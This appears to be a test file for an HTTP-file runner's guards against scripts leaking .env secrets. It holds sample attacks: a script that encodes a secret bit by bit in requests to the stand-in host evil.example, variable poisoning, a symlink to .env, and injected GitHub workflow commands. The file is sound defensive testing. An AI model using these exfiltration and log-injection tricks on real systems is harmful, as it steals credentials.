import { readFileSync, symlinkSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { beforeEach, describe, expect, it, onTestFinished } from 'vitest';
import { commandLine, folderOf } from '../command-line';

/** The URLs that came, also as to a proxy. */
let received: string[];
let url: string;
let status = 200;

beforeEach(async () => {
  received = [];
  status = 200;
  const server = createServer((request, response) => {
    received.push(request.url ?? '');
    response.statusCode = status;
    response.setHeader('Content-Type', 'text/plain');
    response.end('first\n::error::from the service\n  ::stop-commands::x\n##[error]also\nlast\n');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

const read = 'client.environment.get("$dotenv TOK")';
const canary = 'canaryFile42';

/** Runs a file next to a `.env`; every host but this machine is reached by the server above. */
function run(text: string, args: readonly string[] = [], files: Readonly<Record<string, string>> = {}) {
  const cwd = folderOf({ '.env': `TOK=${canary}\n`, 'a.http': text, ...files });
  return commandLine(['run', 'a.http', '--all', ...args], { cwd, env: { http_proxy: url, no_proxy: '127.0.0.1' } });
}

describe('what a script has read', () => {
  const bits = `# @loop for 14\n< {%\n  const s = ${read};\n  const i = request.iteration();\n  if (!((s.charCodeAt(Math.floor(i / 7)) >> (i % 7)) & 1)) throw 1;\n%}\nGET http://evil.example/{{$index}}\n`;

  it('reaches no other host by what the script does, until the user allows it', async () => {
    const { code, error } = await run(bits);
    expect([code, received]).toEqual([3, []]);
    expect(error).toContain(
      'what a script has read (what is in .env) has not been sent to http://evil.example before; if that is meant, add --allow-origin http://evil.example',
    );
    await run(bits, ['--allow-origin', 'http://evil.example']);
    expect(received.length).toBe(7);
  });

  it('keeps later requests from other hosts, and none from this machine', async () => {
    const text = `< {% ${read} %}\nGET ${url}/1\n\n###\nGET http://evil.example/2\n\n###\nGET ${url}/3\n`;
    const { code } = await run(text);
    expect([code, received]).toEqual([3, ['/1', '/3']]);
  });

  it('does not end a run with a request to another host behind it', async () => {
    const text = `@key = {{$dotenv TOK}}\n\n### one\nGET ${url}/1\n\n?? js key.length > 3\n\n### two\nGET http://evil.example/2\n`;
    expect([(await run(text, ['--bail'])).code, received]).toEqual([3, ['/1']]);
    expect([(await run(text)).code, received]).toEqual([0, ['/1', '/1', 'http://evil.example/2']]);
  });

  it('gives no system variable another value', async () => {
    const text = `< {% client.global.set("$dotenv TOK", "poison") %}\nGET ${url}/1\n\n###\nGET ${url}/{{$dotenv TOK}}\n`;
    const { code, error } = await run(text);
    expect([code, received]).toEqual([3, [`/${canary}`]]);
    expect(error).toContain('Use a name of your own.');
  });

  it('is not what a link to a private file holds', async () => {
    const cwd = folderOf({ '.env': `${canary}\n`, 'a.http': `GET ${url}/1\n\n> ./e.js\n` });
    symlinkSync('.env', join(cwd, 'e.js'));
    const { code, out, error } = await commandLine(['run', 'a.http'], { cwd });
    expect(code).toBe(1);
    expect(out).toContain('is private, so it is not run as a script');
    expect(out + error).not.toContain(canary);
  });
});

describe('the words of a script that has read a private value', () => {
  const backwards = [...canary].reverse().join('');
  const text = `### one\nGET URL/1\n\n> {%\n  const t = ${read}.split("").reverse().join("");\n  client.log(t);\n  client.log("read it");\n  client.test("is " + t, () => {});\n  client.test("is there", () => { throw new Error(t); });\n%}\n`;

  it.each([
    ['text', []],
    ['json', ['--format', 'json']],
    ['github', ['--format', 'github']],
  ])('are not in the output: %s', async (_, args) => {
    const { out, error } = await run(text.replace('URL', url), args);
    expect(out + error).not.toContain(backwards);
    expect(out).toContain('is there');
    const shown = await run(text.replace('URL', url), [...args, '--show-secrets']);
    expect(shown.out).toContain(backwards);
  });

  it('are in no report, but the results are, and what the code says itself', async () => {
    const folder = folderOf({});
    const reports = ['r.xml', 'r.html', 'r.json', 'r.har'].map((name) => join(folder, name));
    const [xml = '', html = '', json = '', har = ''] = reports;
    await run(text.replace('URL', url), [...[xml, html, json].flatMap((path) => ['--report', path]), '--har', har]);
    for (const report of reports)
      expect([report, readFileSync(report, 'utf8').includes(backwards)]).toEqual([report, false]);
    for (const report of [xml, html, json]) {
      const written = readFileSync(report, 'utf8');
      expect(written).toContain('is there');
      expect(written).toContain('Test 1 of the script (name kept back)');
      expect(written).toContain('Kept back: the script has read a private value');
    }
    expect(readFileSync(html, 'utf8')).toContain('read it');
  });
});

it('a status of 500 is a failure where a script only has the words', async () => {
  status = 500;
  const words = `GET ${url}/1\n\n> {%\n  // response.status is not looked at.\n  client.test("a", () => {});\n%}\n`;
  expect((await run(words)).code).toBe(1);
  const judged = `GET ${url}/1\n\n> {% client.test("a", () => client.assert(response.status === 500)) %}\n`;
  expect((await run(judged)).code).toBe(0);
});

describe('what others have written, where GitHub reads the log', () => {
  const commandsIn = (output: string) => output.split(/\r\n|\r|\n/).filter((line) => /^\s*::|##\[/.test(line));
  const text = () =>
    `### one\nGET ${url}/1\n\n?? body == x\n\n> {% client.log("a\\n::error::of a script\\r::debug::b"); client.test("\\n::error::t", () => { throw new Error("\\n::error::m") }) %}\n`;

  it.each([
    ['text', []],
    ['json', ['--format', 'json']],
    ['github', ['--format', 'github']],
  ])('becomes no command: run, %s', async (_, args) => {
    const cwd = folderOf({ 'a.http': text() });
    const command = ['run', 'a.http', '--all', ...args];
    const { out, error } = await commandLine(command, { cwd, env: { GITHUB_ACTIONS: 'true' } });
    const own = args.includes('github') ? 2 : 0;
    expect(commandsIn(out).filter((line) => !/^::error file=a\.http,line=\d+,title=/.test(line))).toEqual([]);
    expect([commandsIn(out).length, commandsIn(error)]).toEqual([own, []]);
    // Elsewhere, it is shown as it came.
    if (args.length === 0) expect(commandsIn((await commandLine(command, { cwd })).out).length).toBeGreaterThan(1);
  });

  it.each([
    ['check', '--fix-unsafe', '--dry-run', 'a.http'],
    ['explain', 'a.http'],
  ])('becomes no command: %s', async (...args) => {
    const text = 'PUT /_security/api_key\n\n{ "name": "x" "role_descriptors": {} }\n::error::b\n';
    const cwd = folderOf({ 'a.http': text });
    const { out, error } = await commandLine(args, { cwd, env: { GITHUB_ACTIONS: 'true' } });
    expect(out + error).toContain(String.raw`:\u003aerror`);
    expect(commandsIn(out + error)).toEqual([]);
  });

  it('is a command where Rulebook writes one', async () => {
    const cwd = folderOf({ 'a.http': 'GET /_cluster/helth\n' });
    const { out } = await commandLine(['check', 'a.http', '--format', 'github'], {
      cwd,
      env: { GITHUB_ACTIONS: 'true' },
    });
    expect(commandsIn(out)).toEqual([expect.stringMatching(/^::(?:error|warning) file=a\.http,line=1/)]);
  });
});
